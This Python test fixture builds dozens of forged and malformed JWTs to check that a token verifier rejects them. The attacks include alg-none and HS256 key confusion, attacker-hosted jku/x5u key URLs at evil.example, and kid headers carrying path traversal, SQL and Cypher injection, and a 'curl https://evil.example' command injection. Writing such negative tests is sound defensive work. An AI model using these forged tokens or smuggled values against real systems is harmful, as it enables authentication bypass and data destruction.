"""Attacks on tokens of an issuer: what it is called, and the token."""

import base64
import hmac
import json
import time
from typing import Any, Final

from .small_issuer import (
    ADDRESS,
    CLIENT,
    DAY,
    EC,
    OTHERS,
    PEM,
    RSA,
    claims,
    forged,
    public,
    signed,
)

NOW: Final = int(time.time())


def _hmac(header: dict[str, Any], secret: bytes) -> str:
    text = forged(header, claims()).removesuffix(".")
    return forged(header, claims(), hmac.digest(secret, text.encode(), "sha256"))


def _with(token: str, part: int, text: str) -> str:
    parts = token.split(".")
    parts[part] = base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")
    return ".".join(parts)


ATTACKS: Final[dict[str, str]] = {
    "alg none": forged({"alg": "none", "kid": "r1"}, claims()),
    "alg None": forged({"alg": "None", "kid": "r1"}, claims()),
    "alg missing": forged({"kid": "r1"}, claims()),
    "alg a list": forged({"alg": ["RS256"], "kid": "r1"}, claims()),
    "alg HS256 with the public key": _hmac({"alg": "HS256", "kid": "r1"}, PEM),
    "alg HS256 with the modulus": _hmac(
        {"alg": "HS256", "kid": "r1"}, json.dumps(public(RSA, "r1")).encode()
    ),
    "alg HS256 with nothing": _hmac({"alg": "HS256", "kid": "r1"}, b""),
    "alg allowed elsewhere": signed(algorithm="RS512"),
    "alg PS256 with an RS256 key": signed(algorithm="PS256"),
    "another's key": signed(OTHERS),
    "another's key and no number": signed(OTHERS, header={}),
    "a key of another kind": signed(EC, "ES256", {"kid": "r1"}),
    "kid a path": signed(OTHERS, header={"kid": "../../../../dev/null"}),
    "kid SQL": signed(OTHERS, header={"kid": "r1' OR '1'='1"}),
    "kid Cypher": signed(OTHERS, header={"kid": "r1'}) DETACH DELETE n //"}),
    "kid a command": signed(OTHERS, header={"kid": "r1; curl https://evil.example"}),
    "kid an address": signed(OTHERS, header={"kid": "https://evil.example/keys"}),
    "kid long": signed(header={"kid": "r" * 5_000}),
    "kid a number": forged({"alg": "RS256", "kid": 1}, claims(), b"x"),
    "jku": signed(OTHERS, header={"kid": "r1", "jku": "https://evil.example/keys"}),
    "jku and a kid of theirs": signed(
        OTHERS, header={"kid": "x1", "jku": "https://evil.example/keys"}
    ),
    "jwk": signed(OTHERS, header={"kid": "r1", "jwk": public(OTHERS, "r1")}),
    "x5u": signed(OTHERS, header={"kid": "r1", "x5u": "https://evil.example/cert"}),
    "x5c": signed(OTHERS, header={"kid": "r1", "x5c": ["MIIB"]}),
    "crit": signed(header={"kid": "r1", "crit": ["exp"]}),
    "b64": _with(signed(), 0, '{"alg": "RS256", "kid": "r1", "b64": false}'),
    "zipped": forged({"alg": "RS256", "kid": "r1", "zip": "DEF"}, claims(), b"x"),
    "encrypted": "eyJhbGciOiJSU0EtT0FFUCIsImVuYyI6IkEyNTZHQ00ifQ.a.b.c.d",
    "a sign-out": signed(header={"kid": "r1", "typ": "logout+jwt"}),
    "a proof of a key": signed(header={"kid": "r1", "typ": "dpop+jwt"}),
    "bound to a key": signed(cnf={"jkt": "x"}),
    "expired": signed(exp=NOW - 60),
    "expired long ago": signed(exp=0),
    "without an end": signed(exp=None),
    "an end in words": signed(exp="tomorrow"),
    "an end beyond time": signed(exp=10**18),
    "not yet": signed(nbf=NOW + DAY),
    "issued in the future": signed(iat=NOW + DAY),
    "wrong audience": signed(aud="https://other.example"),
    "no audience": signed(aud=None),
    "an ID token": signed(aud=CLIENT),
    "audience as a part": signed(aud="https://hub.example"),
    "wrong issuer": signed(iss="https://evil.example"),
    "issuer with a slash": signed(iss=f"{ADDRESS}/"),
    "issuer as a list": forged({"alg": "RS256", "kid": "r1"}, claims(iss=[ADDRESS]), b"x"),
    "no issuer": signed(iss=None),
    "no subject": signed(sub=None),
    "an empty subject": signed(sub=""),
    "not mapped": signed(roles=["cook"]),
    "roles as a text with more": signed(roles="partner,admin"),
    "roles as a table": signed(roles={"partner": True}),
    "changed claims": _with(signed(), 1, json.dumps(claims(roles=["partner"], sub="s2"))),
    "changed header": _with(signed(), 0, json.dumps({"alg": "RS256", "kid": "r1", "x": 1})),
    "no signature": signed().rpartition(".")[0] + ".",
    "cut": signed()[:-10],
    "two parts": ".".join(signed().split(".")[:2]),
    "four parts": signed() + ".x",
    "no base64": "ä.ö.ü",
    "claims no object": forged({"alg": "RS256", "kid": "r1"}, [1], b"x"),  # pyright: ignore[reportArgumentType] -- that is the attack
    "deep claims": _with(signed(), 1, "[" * 1_500 + "]" * 1_500),
    "deep header": _with(signed(), 0, '{"a":' * 1_200 + "1" + "}" * 1_200),
    "infinite end": _with(signed(), 1, json.dumps(claims(exp=float("inf")))),
    "empty": "",
    "dots": "..",
}
